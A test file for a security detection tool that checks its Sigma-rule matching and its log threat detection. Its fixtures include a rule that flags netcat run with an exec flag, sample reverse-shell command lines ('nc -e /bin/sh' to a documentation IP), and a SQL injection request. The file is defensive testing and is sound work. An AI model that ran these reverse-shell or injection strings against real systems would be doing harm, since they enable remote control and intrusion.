import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { detect } from '../../../cli/detect';
import { sigma } from '../../../cli/sigma';

function capture() {
  const out: string[] = [];
  const err: string[] = [];
  vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => { out.push(String(chunk)); return true; });
  vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => { err.push(String(chunk)); return true; });
  return { out: () => out.join(''), err: () => err.join('') };
}

afterEach(() => vi.restoreAllMocks());

describe('vigil sigma', () => {
  it('prints line, rule id and title per match, and one stderr line per rule it cannot load', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'vigil-sigma-'));
    writeFileSync(join(dir, 'nc.yml'), `title: Netcat with exec flag
id: 0b7c9d4e-aaaa-4bbb-8ccc-dddddddddddd
logsource:
    category: process_creation
    product: linux
detection:
    selection:
        Image|endswith: '/nc'
        CommandLine|contains: ' -e '
    condition: selection
level: high
`);
    writeFileSync(join(dir, 'broken.yml'), 'title: broken\ndetection:\n  s:\n    f|nope: 1\n  condition: s\n');
    const events = join(dir, 'events.jsonl');
    writeFileSync(events, [
      JSON.stringify({ EventData: { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 203.0.113.1 4444' } }),
      JSON.stringify({ Image: '/usr/bin/nc', CommandLine: 'nc -l 8080' }),
      '',
      JSON.stringify({ Image: '/bin/nc', CommandLine: 'nc -e /bin/bash x 1' }),
    ].join('\n'));
    const io = capture();
    expect(await sigma([dir, '--events', events])).toBe(0);
    expect(io.out()).toBe('1\t0b7c9d4e-aaaa-4bbb-8ccc-dddddddddddd\tNetcat with exec flag\n4\t0b7c9d4e-aaaa-4bbb-8ccc-dddddddddddd\tNetcat with exec flag\n');
    expect(io.err().trim().split('\n')).toEqual([expect.stringMatching(/broken\.yml: .*unknown modifier \|nope/)]);
  });

  it('answers usage errors with exit 2', async () => {
    capture();
    expect(await sigma(['rules'])).toBe(2);
  });
});

describe('vigil detect', () => {
  it('prints one JSON object per detected threat, correlating on the lines own timestamps', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'vigil-detect-'));
    const log = join(dir, 'auth.log');
    const lines = [1, 2, 3, 4, 5].map((s) => `Jan 15 10:30:0${s} web1 sshd[9]: Failed password for root from 203.0.113.9 port 4000 ssh2`);
    lines.push('203.0.113.5 - - [15/Jan/2024:10:30:00 +0000] "GET /p?id=1%20union%20select%201,2-- HTTP/1.1" 200 1 "-" "x"', 'all quiet');
    writeFileSync(log, `${lines.join('\n')}\n`);
    const io = capture();
    expect(await detect([log])).toBe(0);
    const results = io.out().trim().split('\n').map((l) => JSON.parse(l));
    expect(results.map((r) => [r.line, r.threat_type])).toEqual([[5, 'brute_force_attack'], [6, 'sql_injection']]);
    expect(results[0]).toMatchObject({ source_ip: '203.0.113.9', mitre_attack: ['T1110.001', 'T1110'], severity: 'high' });
  });
});
